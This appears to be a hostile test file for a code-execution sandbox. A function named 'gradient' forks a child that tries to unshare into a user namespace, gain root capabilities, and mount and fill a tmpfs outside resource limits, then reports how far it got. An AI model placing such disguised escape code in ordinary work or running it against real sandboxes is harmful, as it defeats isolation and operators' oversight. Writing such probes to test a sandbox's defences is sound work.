"""Hostile: a user namespace of its own, where the code is root (this session's attack 1).

Unprivileged user namespaces give every capability inside them: the code can then
mount a tmpfs and fill it (memory that no resource limit of its process counts, up
to half the machine's per mount), and reach netfilter and the other interfaces that
most published kernel privilege escalations of recent years start from (the reason
bubblewrap grew ``--disable-userns`` and Docker's seccomp profile refuses them).

A forked process tries, so the server itself never changes namespace.  Returns the
stage it reached (0: ``unshare`` refused, 1: in a namespace with capabilities, 2: a
tmpfs mounted, 3: 32 MiB written to it) and the ``errno`` where it stopped.
"""

import ctypes
import os

import numpy as np

CLONE_NEWUSER, CLONE_NEWNS = 0x10000000, 0x00020000


def _attempt(report):
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE: its own /proc files, to write its maps
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0:
        return 0, ctypes.get_errno()
    with open("/proc/self/status") as handle:
        caps = next(line for line in handle if line.startswith("CapEff:")).split()[1]
    if int(caps, 16) == 0:
        return 0, 0
    try:
        for name, text in (
            ("setgroups", "deny"),
            ("uid_map", f"0 {uid} 1"),
            ("gid_map", f"0 {gid} 1"),
        ):
            with open(f"/proc/self/{name}", "w") as handle:
                handle.write(text)
    except OSError as exc:
        return 1, exc.errno
    os.makedirs("mnt", exist_ok=True)
    if libc.mount(b"none", b"mnt", b"tmpfs", 0, b"size=64m") != 0:
        return 1, ctypes.get_errno()
    try:
        for index in range(4):
            with open(f"mnt/{index}", "wb") as handle:
                handle.write(b"\1" * (8 << 20))
    except OSError as exc:
        return 2, exc.errno
    return 3, 0


def gradient(X, y, w):
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            stage, errno = _attempt(None)
        except BaseException:
            stage, errno = -1, -1
        os.write(write, f"{stage} {errno}".encode())
        os._exit(0)
    os.close(write)
    answer = os.read(read, 100).split()
    os.waitpid(pid, 0)
    return np.array([int(part) for part in answer])
